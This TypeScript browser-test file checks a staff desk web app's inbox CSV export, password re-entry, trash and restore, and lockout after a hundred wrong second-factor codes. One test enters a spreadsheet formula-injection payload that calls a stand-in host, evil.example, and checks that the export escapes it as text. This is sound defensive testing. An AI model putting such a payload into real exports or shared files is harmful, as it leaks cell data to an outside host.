import { readFile } from 'node:fs/promises'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { inboxItemWords, inboxWords } from '#words/desk-inbox.ts'
import { deskTrashWords } from '#words/desk-trash.ts'
import { deskFormWords, deskFrameWords, deskHomeWords } from '#words/desk.ts'
import { deskHistoryWords } from '#words/desk-history.ts'
import { joiningWords, signInWords } from '#words/desk-ways-in.ts'
import { staffWords } from '#words/desk-staff.ts'
import { deskDoneWords } from '#words/desk-done.ts'
import { shortDay } from '#app/features/site/dates.ts'
import { besides, runBeside } from '#test/beside-a-site.ts'
import { isFocused, open, scripted } from '#test/browser.ts'
import { axeEverywhere, heading, joinInBrowser, press, showCookies, signInByHand, typePassword } from '#test/desk-in-a-browser.ts'
import { type DeskVisitor, exampleKeeper, invite, type JoinedPerson } from '#test/desk-visitor.ts'
import { waitForMails, pageOf } from '#test/giving/site-giver.ts'
import { postForm } from '#test/start-site.ts'
import { openVisitedSite, type VisitedSite } from '#test/visited-site.ts'

const PASSWORD = 'lantern orchid velvet 40'
const NEW_PASSWORD = 'harbor willow copper 71'

let site: VisitedSite
let example: DeskVisitor
let ruth: JoinedPerson
beforeAll(async () => {
  site = await openVisitedSite()
  example = await exampleKeeper(site)
  ruth = await invite(site, example, { email: 'ruth@desk.example.org', role: 'keeper', password: PASSWORD })
})
afterAll(() => site.close())

type Options = Parameters<VisitedSite['newcomer']>[0]
async function at(path: string, { scripts = true, ...options }: Options = {}, visitor = ruth.visitor): Promise<Page> {
  const page = await showCookies(site, await site.newcomer({ scripts, ...options }), visitor)
  if (scripts) await open(page, site.url + path)
  else await page.goto(site.url + path)
  return page
}
/** A message by the public form. @returns its reference */
async function write(fields: { name: string; subject: string; message?: string }): Promise<string> {
  const typed = { email: 'somebody@example.org', message: 'On Friday?', ...fields, attempt: crypto.randomUUID() }
  const answer = await postForm(site, '/contact', typed)
  return /MS-[A-Z0-9]{4}-[A-Z0-9]{2}/.exec(await answer.text())![0]
}

describe.each([
  ['with scripts', true],
  ['without scripts', false],
])('%s', (_, scripts) => {
  const word = `quokka${scripts ? 'scripted' : 'plain'}`

  test('what a filter shows is saved as a file that a spreadsheet knows, formulas as text, and that stands in the history', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Prize")'
    const inside = [
      await write({ name: formula, subject: word }),
      await write({ name: 'Zoë Quist', subject: word, message: '+1\n@SUM(A1)' }),
    ]
    await write({ name: 'Somebody Else', subject: 'wallaby' })
    const page = await at(`/desk/inbox?q=${word}`, { scripts })
    await page.getByText(formula).waitFor()
    const [download] = await Promise.all([page.waitForEvent('download'), press(page, inboxWords.export.submit)])
    expect(download.suggestedFilename()).toMatch(/^inbox-\d{4}-\d\d-\d\d\.csv$/)
    const bytes = await readFile(await download.path())
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const rows = parse<Record<string, string>>(bytes, { bom: true, columns: true })
    const { reference, from } = inboxWords.export.columns
    expect(rows.map((row) => [row[reference], row[from]])).toEqual([
      [inside[1], 'Zoë Quist'],
      [inside[0], `'${formula}`],
    ])
    expect(Object.values(rows[0]!)).toContain(`'+1\n@SUM(A1)`)
    // The list stays as it was.
    expect(new URL(page.url()).searchParams.get('q')).toBe(word)

    await page.goto(`${site.url}/desk/history?verb=export-inbox`)
    const line = page.getByRole('row').filter({ hasText: deskHistoryWords.verbs['export-inbox']! }).first()
    expect(await line.innerText()).toContain('keeper of the tests')
    expect(await line.innerText()).toContain(deskHistoryWords.change(deskHistoryWords.states.rows!, undefined, '2'))
    expect(await page.locator('main').innerText()).not.toContain(word)
  })

  test('whoever typed their password long ago types it once more, in the same place, and has the file', async () => {
    await write({ name: 'Ada Lane', subject: `late${word}` })
    await besides(site, (db) => sql`update desk_sessions set password_at = now() - interval '11 minutes'`.execute(db))
    const page = await at(`/desk/inbox?q=late${word}`, { scripts })
    const fold = page.locator('main summary').filter({ hasText: inboxWords.export.submit })
    await fold.click()
    const again = page.getByLabel(deskFormWords.fields.password.again.label)
    await again.fill('not this one')
    await press(page, inboxWords.export.submit)
    await page.getByRole('alert').getByText(inboxWords.export.refused).or(page.getByText(inboxWords.export.refused)).first().waitFor()
    if (scripts) {
      await scripted(page)
      expect(await axeEverywhere(page)).toEqual([])
    }
    await again.fill(PASSWORD)
    const [download] = await Promise.all([page.waitForEvent('download'), press(page, inboxWords.export.submit)])
    expect(await readFile(await download.path(), 'utf8')).toContain('Ada Lane')
  })

  test('spam goes into the trash by its reference, says until which day it can be put back, and is back in the inbox then', async () => {
    const reference = await write({ name: 'Cheap Bread', subject: `trash${word}` })
    const list = `/desk/inbox?q=trash${word}`
    const page = await at('/desk/trash', { scripts, width: 360, height: 740 })
    await press(page, deskTrashWords.move.submit)
    await page.getByRole('alert').getByText(deskTrashWords.move.missing).first().waitFor()
    if (scripts) await scripted(page)
    await page.getByLabel(deskTrashWords.move.label).fill(reference.toLowerCase())
    await press(page, deskTrashWords.move.submit)
    await page.getByText(deskTrashWords.did.moved).waitFor()
    const row = page.getByRole('row').filter({ hasText: reference })
    const words = await row.innerText()
    const until = shortDay(new Date(Date.now() + 30 * 86_400_000))
    for (const told of [`trash${word}`, 'somebody@example.org', deskTrashWords.until(until)]) expect(words).toContain(told)
    if (scripts) expect(await axeEverywhere(page)).toEqual([])
    await page.goto(site.url + list)
    await page.getByText(inboxWords.empty.others.heading).waitFor()

    await page.goto(`${site.url}/desk/trash`)
    await row.getByRole('button', { name: deskTrashWords.restoreFor(reference) }).click()
    await page.getByText(deskTrashWords.did.restored).waitFor()
    expect(await row.count()).toBe(0)
    await page.goto(site.url + list)
    await page.getByRole('link', { name: 'Cheap Bread' }).click()
    await heading(page, inboxItemWords.title('Message', 'Cheap Bread'))
    for (const verb of ['move-to-trash', 'put-back']) {
      await page.goto(`${site.url}/desk/history?verb=${verb}`)
      await page.getByRole('row').filter({ hasText: reference }).first().waitFor()
    }
  })

  test('after a hundred wrong codes the page says how there is a new way in, and that way leads to the desk', async () => {
    const person = await invite(site, example, { email: `locked.${scripts}@desk.example.org`, role: 'keeper', password: PASSWORD })
    await besides(site, (db) => db.updateTable('deskStaff').set({ factorTries: 99 }).where('email', '=', person.email).execute())
    const page = await site.newcomer({ scripts })
    const { closed } = signInWords.secondFactor
    await page.goto(`${site.url}/desk`)
    await signInByHand(page, { email: person.email, password: PASSWORD, code: '000000' })
    await heading(page, closed.title)
    for (const told of [closed.what, closed.keeper, closed.server]) await page.getByText(told).waitFor()
    expect(await page.getByLabel(deskFormWords.fields.code.label, { exact: true }).count()).toBe(0)
    if (scripts) {
      expect(await isFocused(page.locator('main [tabindex="-1"]').filter({ hasText: closed.what }))).toBe(true)
      expect(await axeEverywhere(page)).toEqual([])
    }
    await waitForMails(site, person.email, /You need a new way/, 1)
    // The right password leads there again, and to nothing else.
    await press(page, signInWords.secondFactor.back)
    await page.goto(`${site.url}/desk/inbox`)
    await typePassword(page, { email: person.email, password: PASSWORD })
    await heading(page, closed.title)

    if (scripts) expect(await runBeside(site, 'desk-reset', [person.email])).toMatchObject({ code: 0 })
    else await resetByKeeper(person)
    const [mail] = await waitForMails(site, person.email, /new way into/, 2)
    const link = /\/desk\/invitation\/[\w-]{43}/.exec(await pageOf(site, `/demo/mailbox/${mail!.id}`))![0]
    // A link that was used is answered with 404.
    const fresh = await site.newcomer({ scripts, allow: [/status of 404 .*\/desk\/invitation\//] })
    await fresh.goto(site.url + link)
    const { code } = await joinInBrowser(fresh, { name: 'Hal Reed', password: NEW_PASSWORD })
    await fresh.getByRole('button', { name: deskFrameWords.signOut, exact: true }).click()
    await typePassword(fresh, { email: person.email, password: PASSWORD })
    await fresh.getByRole('alert').getByText(signInWords.refused).waitFor()
    if (scripts) await scripted(fresh)
    await signInByHand(fresh, { email: person.email, password: NEW_PASSWORD, code: code(1) })
    await heading(fresh, deskHomeWords.title('Hal Reed'))
    // The link is used, and the page that was closed is nobody's now.
    await fresh.goto(site.url + link)
    await heading(fresh, joiningWords.gone.title)
    await page.goto(`${site.url}/desk`)
    await heading(page, signInWords.title)
  })
})

/** As the page that is closed tells them to. */
async function resetByKeeper({ email }: JoinedPerson): Promise<void> {
  const page = await at('/desk/people', { scripts: false })
  await page.getByRole('listitem').filter({ hasText: email }).getByRole('link').click()
  await press(page, staffWords.acts.reset.submit)
  await page.getByText(deskDoneWords.reset).waitFor()
}
